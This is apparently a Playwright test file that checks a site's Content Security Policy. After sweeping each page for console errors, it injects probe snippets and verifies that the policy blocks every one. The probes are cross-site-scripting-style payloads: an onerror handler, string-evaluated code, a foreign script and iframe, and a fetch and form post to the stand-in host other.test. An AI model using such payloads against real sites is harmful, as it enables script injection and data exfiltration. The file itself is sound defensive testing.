import { expect, type Page, test } from "playwright/test";
import { pageErrors } from "@/e2e/support/page-errors";
import { pages, unknownPage } from "@/e2e/support/tested-pages";
import { scrollThrough, waitUntilReady } from "@/e2e/support/visit";
import { pagePath } from "@/lib/content/pages";
import { otherScripts } from "@/lib/site/other-scripts";
import { href } from "@/lib/site/with-base-path";

for (const path of pages)
  test(`nothing on ${path} breaks the policy`, {
    tag: path === "/" ? [] : "@sweep",
  }, async ({ page }) => {
    await page.goto(href(path));
    await waitUntilReady(page);
    await scrollThrough(page);
    await pressEverything(page);
    await page.waitForLoadState("networkidle");
    const errors = await pageErrors(page);
    // The console reports the 404 of the unknown page itself.
    if (path === unknownPage) expect(errors.shift()).toContain("404");
    expect(errors).toEqual([]);
  });

// Scripts of other sites take the place of Trusted Types.
const code =
  otherScripts.length > 0 ? "script-src" : "require-trusted-types-for";

const areStylesOpen = otherScripts.some(({ origins }) =>
  origins["style-src"]?.includes("'unsafe-inline'"),
);

/** Each key starts with the directive that must block the probe. */
const probes = {
  [`${code}: a script of another site`]: `const s = document.createElement("script"); s.src = "https://other.test/x.js"; document.head.append(s)`,
  [`${code}: markup with a handler`]: `document.body.innerHTML = "<img src=x onerror=1>"`,
  ...(otherScripts.length === 0 && {
    "trusted-types: a Trusted Types policy": `trustedTypes.createPolicy("mine", {})`,
  }),
  [`${code}: text as code`]: `setTimeout("window.broken = true")`,
  "base-uri: a base URL": `const b = document.createElement("base"); b.href = "https://other.test/"; document.head.append(b)`,
  "frame-src: a frame": `const f = document.createElement("iframe"); f.src = "https://other.test/"; document.body.append(f)`,
  "connect-src: a message home": `fetch("https://other.test/").catch(() => {})`,
  "img-src: a picture of another site": `const i = new Image(); i.src = "https://other.test/x.png"`,
  ...(!areStylesOpen && {
    "style-src: a style": `const s = document.createElement("style"); s.textContent = "body{display:none}"; document.head.append(s)`,
  }),
  // Last, since Playwright waits for the page that the form would open.
  "form-action: a form to another site": `const f = document.createElement("form"); f.action = "https://other.test/"; f.method = "post"; document.body.append(f); f.submit()`,
};

test("an injection of any kind is blocked", async ({ page }) => {
  const reached: string[] = [];
  page.on("response", (response) => reached.push(response.url()));
  await page.route("https://other.test/**", (route) =>
    route.fulfill({ body: "window.broken = true" }),
  );
  await page.goto(href(pagePath("thankyou")));
  await page.evaluate(() =>
    document.addEventListener("securitypolicyviolation", (event) =>
      Object.assign(window, { violated: event.effectiveDirective }),
    ),
  );
  for (const [name, code] of Object.entries(probes))
    await test.step(name, async () => {
      await inject(page, name, code);
      await page.waitForFunction((directive) => {
        const { violated = "none" } = window as { violated?: string };
        return directive && violated.startsWith(directive);
      }, name.split(":")[0]);
      await page.evaluate(() => Object.assign(window, { violated: "" }) && 0);
    });
  expect(await page.evaluate(() => "broken" in window)).toBe(false);
  expect(reached.filter((url) => url.includes("other.test"))).toEqual([]);
});

/**
 * Runs code in the page as a bug in one of its scripts would. The policy does not apply to `page.evaluate`, so the code
 * is the response to a module of this site, which the policy allows by URL.
 */
async function inject(page: Page, name: string, code: string) {
  // A unique URL: the browser would take a second script from its memory cache.
  const src = href(`/_next/static/${name.replaceAll(/\W+/g, "-")}.js`);
  await page.route(`**${src}`, (route) =>
    route.fulfill({
      contentType: "text/javascript",
      body: `try {${code}} catch {}`,
    }),
  );
  await page.evaluate((src) => import(src), src);
}

async function pressEverything(page: Page) {
  const buttons = page.locator("main button:visible, header button:visible");
  for (const button of await buttons.all()) {
    await button.evaluate((pressed: HTMLElement) => pressed.click());
    await page.keyboard.press("Escape");
  }
  for (const summary of await page.locator("summary:visible").all())
    await summary.click();
  for (const field of await page
    .locator("main :is(input:not([type=radio]), textarea):visible")
    .all())
    await field.fill("9");
  for (const choice of await page.locator("main [type=radio]:visible").all())
    await choice.check();
}
